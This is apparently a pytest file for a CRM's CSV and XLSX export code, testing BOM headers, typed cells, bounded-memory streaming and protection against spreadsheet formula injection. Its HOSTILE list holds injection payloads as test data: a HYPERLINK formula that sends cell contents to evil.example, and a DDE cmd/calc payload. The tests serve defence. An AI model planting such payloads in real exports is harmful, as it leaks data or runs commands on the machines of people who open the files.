"""Exports: CSV with BOM and XLSX with typed cells, formula-injection safe, streamed in bounded memory."""

from __future__ import annotations

import csv
import io
import tracemalloc
from collections.abc import AsyncIterator, Sequence
from datetime import date
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from crm.db import Database
from crm.reporting.definition import parse_definition
from crm.reporting.export import BOM, csv_chunks, write_xlsx
from crm.reporting.query import result_columns, stream_rows
from crm.reporting.results import ColumnRole, ResultColumn, ValueType
from tests.reports.custom.seed import SHANGHAI, seed

COLUMNS = (
    ResultColumn("day", ValueType.DATE, ColumnRole.DIMENSION),
    ResultColumn("agent", ValueType.TEXT, ColumnRole.DIMENSION, label="坐席"),
    ResultColumn("calls", ValueType.INT, ColumnRole.MEASURE),
    ResultColumn("talk", ValueType.SECONDS, ColumnRole.MEASURE),
    ResultColumn("rate", ValueType.PERCENT, ColumnRole.MEASURE, label="=接通率"),
)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-2",
    "\t=1",
]


async def aiter(rows: Sequence[tuple[Any, ...]]) -> AsyncIterator[tuple[Any, ...]]:
    for row in rows:
        yield row


def rows_with(values: Sequence[str]) -> list[tuple[Any, ...]]:
    return [("2026-11-01", v, -3, 90.5, 0.25) for v in values] + [("2026-11-02", "王芳", 7, None, None)]


async def test_csv_has_bom_header_and_neutralised_formulas() -> None:
    data = b"".join([chunk async for chunk in csv_chunks(COLUMNS, aiter(rows_with(HOSTILE)))])
    text = data.decode("utf-8")
    assert text.startswith(BOM)
    parsed = list(csv.reader(io.StringIO(text[1:])))
    assert parsed[0] == ["day", "坐席", "calls", "talk", "'=接通率"]
    assert [r[1] for r in parsed[1:-1]] == ["'" + v for v in HOSTILE]
    assert parsed[1][2:] == ["-3", "90.5", "0.25"]  # numbers are not text: no apostrophe
    assert parsed[-1] == ["2026-11-02", "王芳", "7", "", ""]


async def test_xlsx_cells_are_typed_and_never_formulas(tmp_path: Path) -> None:
    path = tmp_path / "r.xlsx"
    assert (
        await write_xlsx(
            COLUMNS, aiter(rows_with(HOSTILE)), path, labels=["日期", "坐席", "量", "通话", "率"]
        )
        == 6
    )
    sheet = load_workbook(path).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0] == ["日期", "坐席", "量", "通话", "率"]
    assert [r[1] for r in values[1:6]] == ["'" + v for v in HOSTILE]
    first = next(iter(sheet.iter_rows(min_row=2, max_row=2)))
    assert first[0].value.date() == date(2026, 11, 1) and first[0].number_format == "yyyy-mm-dd"
    assert first[2].value == -3 and first[2].data_type == "n"
    assert abs(first[3].value.total_seconds() - 90.5) < 1e-3 and first[3].number_format == "[h]:mm:ss"
    assert first[4].value == 0.25 and first[4].number_format == "0.0%"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert values[-1] == [values[-1][0], "王芳", 7, None, None]


async def test_a_100k_row_csv_stream_stays_in_bounded_memory() -> None:
    rows = 100_000

    async def generated() -> AsyncIterator[tuple[Any, ...]]:
        for i in range(rows):
            yield ("2026-11-01", f"agent-{i}-" + "x" * 40, i, i / 4, 0.5)

    tracemalloc.start()
    try:
        total = lines = 0
        async for chunk in csv_chunks(COLUMNS, generated()):
            total += len(chunk)
            lines += chunk.count(b"\r\n")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert lines == rows + 1
    assert total > 8_000_000  # about 8 MB of CSV went through…
    assert peak < 1_000_000  # …holding under 1 MB at any time


async def test_a_report_streams_into_both_formats(sqlite_db: Database, tmp_path: Path) -> None:
    await seed(sqlite_db)
    d = parse_definition(
        {
            "source": "calls",
            "date_from": "2026-11-01",
            "date_to": "2026-11-30",
            "dimensions": ["day", "agent"],
            "measures": [{"fn": "count"}, {"fn": "avg", "field": "talk_s"}],
        }
    )
    columns = result_columns(d)
    expected = [r async for r in stream_rows(sqlite_db, d, tz=SHANGHAI)]
    data = b"".join([c async for c in csv_chunks(columns, stream_rows(sqlite_db, d, tz=SHANGHAI))])
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert len(parsed) == len(expected) + 1 and parsed[1][0] == expected[0][0]
    assert sum(int(r[2]) for r in parsed[1:]) == 1200
    path = tmp_path / "calls.xlsx"
    assert await write_xlsx(columns, stream_rows(sqlite_db, d, tz=SHANGHAI), path) == len(expected)
    sheet = load_workbook(path).active
    assert sum(row[2].value for row in sheet.iter_rows(min_row=2)) == 1200
